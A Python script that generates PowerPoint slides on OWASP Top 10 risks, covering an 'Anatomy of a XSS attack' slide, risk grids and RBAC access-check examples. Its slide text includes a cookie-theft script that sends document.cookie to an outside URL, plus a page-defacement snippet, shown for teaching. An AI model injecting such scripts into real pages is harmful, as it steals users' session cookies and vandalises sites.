



import pptx
import pptx.dml.color
import pptx.enum.shapes
import pptx.enum.text
import pptx.oxml.ns
import pptx.util
from lxml import etree

EMU_PER_PX = 914400 / 134.4
MARGIN = 67
CONTENT_WIDTH = 1210
HEADING_HEIGHT = 42

COLOURS = {
    "title": "004685",
    "ink": "000000",
    "white": "FFFFFF",
    "red": "FF0000",
    "tick": "00B050",
    "keyword": "008800",
    "method": "0000CC",
    "muted": "D9D9D9",
    "active": "4F81BD",
}

RISKS = [
    "A1 – Injection",
    "A2 – Broken Authentication and Session Management",
    "A3 – Cross-Site Scripting (XSS)",
    "A4 – Insecure Direct Object References",
    "A5 – Security Misconfiguration",
    "A6 – Sensitive Data Exposure",
    "A7 – Missing Function Level Access Control",
    "A8 – Cross-Site Request Forgery",
    "A9 – Using Components with Known Vulnerabilities",
    "A10 – Unvalidated Redirects and Forwards",
]
RISK_COLUMNS = 4

COOKIE_THEFT = [
    [("<script>", "ink")],
    [("var badURL='https://owasp.org/somesite/data=' + document.cookie;", "red")],
    [("var img = new Image();", "red")],
    [("img.src = badURL;", "red")],
    [("</script>", "ink")],
]
DEFACEMENT = [
    [
        ("<script>", "ink"),
        ("document.body.innerHTML='<blink>GO OWASP</blink>';", "red"),
        ("</script>", "ink"),
    ]
]
GUARDED_DELETE = [[("deleteAccount();", "ink")], [("}", "ink")]]
ROLE_CHECK = [
    [
        ("if", "keyword"),
        (" (user.", "ink"),
        ("hasRole", "method"),
        ('("ADMIN")) || (user.', "ink"),
        ("hasRole", "method"),
        ('("MANAGER")) {', "ink"),
    ]
] + GUARDED_DELETE
ACCESS_CHECK = [
    [
        ("if", "keyword"),
        (" (user.", "ink"),
        ("hasAccess", "method"),
        ('("DELETE_ACCOUNT")) {', "ink"),
    ]
] + GUARDED_DELETE


def px(length):
    return pptx.util.Emu(round(length * EMU_PER_PX))


def rgb(name):
    return pptx.dml.color.RGBColor.from_string(COLOURS[name])


def add_bullet(paragraph, symbol, colour, margin, indent):
    properties = paragraph._p.get_or_add_pPr()
    properties.set("marL", str(px(margin)))
    properties.set("indent", str(px(indent)))
    qn = pptx.oxml.ns.qn
    bullet_colour = etree.SubElement(properties, qn("a:buClr"))
    etree.SubElement(bullet_colour, qn("a:srgbClr")).set("val", COLOURS[colour])
    etree.SubElement(properties, qn("a:buSzPct")).set("val", "120000")
    etree.SubElement(properties, qn("a:buChar")).set("char", symbol)


def write_text(frame, lines, size=14, font="Calibri", bold=False, align="LEFT",
               anchor="MIDDLE", inset=None, spacing=None, bullet=None):
    frame.word_wrap = True
    frame.vertical_anchor = pptx.enum.text.MSO_ANCHOR[anchor]
    if inset is not None:
        frame.margin_left = frame.margin_right = px(inset)
        frame.margin_top = frame.margin_bottom = px(inset)
    for index, line in enumerate(lines):
        paragraph = frame.add_paragraph() if index else frame.paragraphs[0]
        if bullet:
            add_bullet(paragraph, *bullet)
        paragraph.alignment = pptx.enum.text.PP_ALIGN[align]
        if spacing:
            paragraph.line_spacing = spacing
        for words, colour in line:
            run = paragraph.add_run()
            run.text = words
            run.font.name = font
            run.font.size = pptx.util.Pt(size)
            run.font.bold = bold
            run.font.color.rgb = rgb(colour)


def add_box(slide, left, top, width, height, outline, weight, fill=None):
    box = slide.shapes.add_shape(
        pptx.enum.shapes.MSO_SHAPE.RECTANGLE,
        px(left), px(top), px(width), px(height))
    box.shadow.inherit = False
    if fill:
        box.fill.solid()
        box.fill.fore_color.rgb = rgb(fill)
    else:
        box.fill.background()
    box.line.color.rgb = rgb(outline)
    box.line.width = pptx.util.Pt(weight)
    return box.text_frame


def add_titled_slide(deck, title, anchor="MIDDLE"):
    slide = deck.slides.add_slide(deck.slide_layouts[6])
    title_box = slide.shapes.add_textbox(
        px(MARGIN), px(31), px(CONTENT_WIDTH), px(126))
    write_text(title_box.text_frame, [[(title, "title")]], size=24, anchor=anchor)
    return slide


def add_heading(slide, heading, top, width, bullet):
    frame = add_box(slide, MARGIN, top, width, HEADING_HEIGHT, "ink", 1.5)
    write_text(frame, [[(heading, "ink")]], bold=True, bullet=bullet)


def add_code(slide, code, top, height, anchor="MIDDLE"):
    frame = add_box(slide, MARGIN, top, CONTENT_WIDTH, height, "ink", 0.75)
    write_text(frame, code, size=10, font="Courier New", bold=True, anchor=anchor)


def add_risk_grid(slide, addressed):
    left, top, width, height = 143, 143, 241, 145
    column_step, row_step = 265, 169
    for start in range(0, len(RISKS), RISK_COLUMNS):
        row = RISKS[start:start + RISK_COLUMNS]
        row_left = left + (RISK_COLUMNS - len(row)) * column_step / 2
        row_top = top + start // RISK_COLUMNS * row_step
        for column, risk in enumerate(row):
            fill = "active" if risk in addressed else "muted"
            frame = add_box(slide, row_left + column * column_step, row_top,
                            width, height, "white", 2, fill)
            write_text(frame, [[(risk, "white")]], size=15, align="CENTER",
                       anchor="TOP", inset=8, spacing=0.9)


def build_xss_slide(deck):
    slide = add_titled_slide(deck, "Anatomy of a XSS attack", anchor="TOP")
    dot = ("•", "red", 3, -42)
    add_heading(slide, "Attack 1 : cookie theft", 178, 402, dot)
    add_heading(slide, "Attack 2 : Web site defacement", 379, 402, dot)
    add_code(slide, COOKIE_THEFT, 232, 126)
    add_code(slide, DEFACEMENT, 431, 36, anchor="TOP")


def build_rbac_slide(deck):
    slide = add_titled_slide(deck, "RBAC (Role based access control)")
    add_heading(slide, "Hard-coded role checks", 175, 381, ("☒", "red", 0, -39))
    add_heading(slide, "RBAC", 350, 381, ("☑", "tick", 0, -39))
    add_code(slide, ROLE_CHECK, 236, 82)
    add_code(slide, ACCESS_CHECK, 406, 82)


def main():
    deck = pptx.Presentation()
    deck.slide_width = px(1344)
    deck.slide_height = px(756)
    build_xss_slide(deck)
    add_risk_grid(add_titled_slide(deck, "Risks Addressed"), RISKS[1:2])
    build_rbac_slide(deck)
    add_risk_grid(
        add_titled_slide(deck, "Risks Addressed : All of them (but not consistently)"),
        RISKS)
    deck.save("out.pptx")


if __name__ == "__main__":
    main()
